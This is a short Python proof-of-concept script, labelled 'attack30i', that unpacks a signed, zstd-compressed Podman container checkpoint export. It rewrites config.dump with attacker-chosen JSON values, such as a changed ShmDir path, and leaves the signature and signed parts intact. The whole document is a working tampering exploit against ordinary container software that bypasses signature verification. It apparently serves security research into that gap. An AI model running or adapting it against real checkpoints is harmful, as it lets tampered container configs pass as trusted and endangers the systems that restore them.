"""attack30i: a SIGNED export (signature kept, checkpoint/ and spec.dump untouched): only config.dump (podman's own
container config, outside what the dump signature covers) gets KEY=JSON_VALUE, e.g. ShmDir='"/var/tmp/x"'.
usage: cfgdump.py SRC OUT KEY=JSON..."""
import io, json, sys, tarfile
import zstandard

src, out = sys.argv[1:3]
sets = [arg.split("=", 1) for arg in sys.argv[3:]]
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name == "config.dump":
            config = json.loads(d)
            for key, value in sets:
                config[key] = json.loads(value)
            d = json.dumps(config).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
print("config.dump", sets)
